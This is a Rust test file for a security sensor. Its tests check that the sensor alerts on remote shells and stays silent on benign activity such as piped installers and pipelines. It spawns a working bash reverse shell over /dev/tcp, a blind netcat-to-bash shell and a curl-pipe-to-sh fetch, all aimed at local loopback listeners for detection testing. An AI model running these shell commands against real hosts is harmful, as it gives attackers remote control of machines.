//! The drills of `sensor drill`: every kind of remote shell, for real, with and without
//! trampolines; and things that look alike and must stay silent.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test fails by panicking"
)]

use std::io::{Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::{Command, Stdio};

use sensor_tests::{Event, Launch, field, sensor_binary, skip, text};

/// Runs all drills; gives what became of each.
fn drill(arguments: &[&str]) -> Vec<Event> {
    let output = Command::new(sensor_binary().unwrap())
        .args(["drill", "--json"])
        .args(arguments)
        .stderr(Stdio::inherit())
        .output()
        .unwrap();
    let lines = String::from_utf8(output.stdout).unwrap();
    lines
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

fn assert_all_seen(arguments: &[&str]) {
    if !Path::new("/bin/sh").exists() {
        return skip("there is no shell here");
    }
    let outcomes = drill(arguments);
    assert!(outcomes.len() >= 13, "{}", outcomes.len());
    let mut missed = missed(&outcomes);
    // Where kernel code can be preempted, the kernel skips programs that it is in the middle of (see
    // the limits in README), on emulated processors often. What cannot be seen is missed each time.
    for _ in 0..ATTEMPTS_MORE {
        if missed.is_empty() || std::env::var_os("SENSOR_VM").is_none() {
            break;
        }
        let names: Vec<_> = missed
            .iter()
            .map(|outcome| text(outcome, "drill"))
            .collect();
        missed = self::missed(&drill(&[arguments, &names].concat()));
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

/// How often drills that were missed are done again in an emulated machine.
const ATTEMPTS_MORE: usize = 2;

fn missed(outcomes: &[Event]) -> Vec<Event> {
    outcomes
        .iter()
        .filter(|outcome| outcome["seen"] != true || outcome["obeyed"] != true)
        .cloned()
        .collect()
}

#[test]
fn every_kind_of_remote_shell_is_seen() {
    assert_all_seen(&[]);
}

#[test]
fn every_kind_of_remote_shell_is_seen_without_trampolines() {
    assert_all_seen(&["--no-trampolines"]);
}

#[test]
fn an_unknown_drill_is_named_and_the_list_is_pointed_to() {
    let output = Command::new(sensor_binary().unwrap())
        .args(["drill", "no-such-drill"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    let error = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(
        error.contains("no-such-drill") && error.contains("--list"),
        "{error}"
    );
}

/// A script fetched and piped to a shell, as installers ask people to: no alarm.
fn fetch_and_run() {
    let curl = Path::new("/usr/bin/curl");
    if !curl.exists() {
        return;
    }
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let mut fetch = Command::new("/bin/sh")
        .arg("-c")
        .arg(format!(
            "curl -s http://127.0.0.1:{port}/install | sh >/dev/null"
        ))
        .spawn()
        .unwrap();
    let (mut served, _) = listener.accept().unwrap();
    let mut request = [0; 1_024];
    let _ = served.read(&mut request).unwrap();
    served
        .write_all(b"HTTP/1.0 200 OK\r\n\r\ntrue; echo installed\n")
        .unwrap();
    drop(served);
    fetch.wait().unwrap();
}

/// What happens on healthy hosts; ends with something that must be seen, so that silence before
/// it means something.
#[test]
fn what_healthy_hosts_do_raises_no_alarm() {
    let (sh, bash) = (Path::new("/bin/sh"), Path::new("/bin/bash"));
    if !sh.exists() || !bash.exists() {
        return skip("there is no bash here");
    }
    let sensor = Launch::default()
        .detecting()
        .with(["--events", "alert"])
        .start()
        .unwrap();
    fetch_and_run();
    // A server that runs a script for each connection, with the connection as its streams.
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    let mut client = TcpStream::connect(server.local_addr().unwrap()).unwrap();
    let (connection, _) = server.accept().unwrap();
    let connection = std::os::fd::OwnedFd::from(connection);
    let mut handler = Command::new(sh)
        .args(["-c", "read line; echo got $line"])
        .stdin(connection.try_clone().unwrap())
        .stdout(connection)
        .spawn()
        .unwrap();
    client.write_all(b"hello\n").unwrap();
    let mut answer = String::new();
    client.read_to_string(&mut answer).unwrap();
    assert_eq!(answer, "got hello\n");
    handler.wait().unwrap();
    // Pipelines.
    assert!(
        Command::new(bash)
            .args([
                "-c",
                "seq 100 | sort -r | sh -c 'cat' | head -n 1 >/dev/null"
            ])
            .status()
            .unwrap()
            .success()
    );
    // The mark that ends it.
    let attacker = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = attacker.local_addr().unwrap().port();
    let mut shell = Command::new(bash)
        .arg("-c")
        .arg(format!(
            "exec bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1"
        ))
        .spawn()
        .unwrap();
    let (mut master, _) = attacker.accept().unwrap();
    master.write_all(b"exit\n").unwrap();
    shell.wait().unwrap();

    let mut sensor = sensor;
    sensor
        .wait_for(|event| field(event, "destination.port") == port)
        .unwrap();
    let finished = sensor.stop().unwrap();
    let alerts: Vec<_> = finished
        .events
        .iter()
        .filter(|event| ["high", "critical"].contains(&text(event, "sensor.alert.severity")))
        .map(|event| text(event, "message"))
        .collect();
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
}

#[test]
fn a_shell_that_obeys_and_does_not_answer_is_seen() {
    let (bash, nc) = (Path::new("/bin/bash"), Path::new("/usr/bin/nc"));
    if !bash.exists() || !nc.exists() {
        return skip("there is no bash or no nc here");
    }
    let mut sensor = Launch::default()
        .detecting()
        .with(["--events", "alert"])
        .start()
        .unwrap();
    let attacker = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = attacker.local_addr().unwrap().port();
    let mut blind = Command::new(bash)
        .arg("-c")
        .arg(format!(
            "nc 127.0.0.1 {port} </dev/null | bash >/dev/null 2>&1"
        ))
        .spawn()
        .unwrap();
    let (mut master, _) = attacker.accept().unwrap();
    master.write_all(b"true\n").unwrap();
    let alert = sensor
        .wait_for(|event| text(event, "rule.id") == "remote-shell.one-way")
        .unwrap();
    drop(master);
    blind.wait().unwrap();
    assert_eq!(text(&alert, "sensor.alert.severity"), "high");
    assert_eq!(field(&alert, "destination.port"), port);
    assert!(text(&alert, "sensor.alert.path").starts_with("127.0.0.1:"));
    assert!(sensor.stop().unwrap().balances());
}
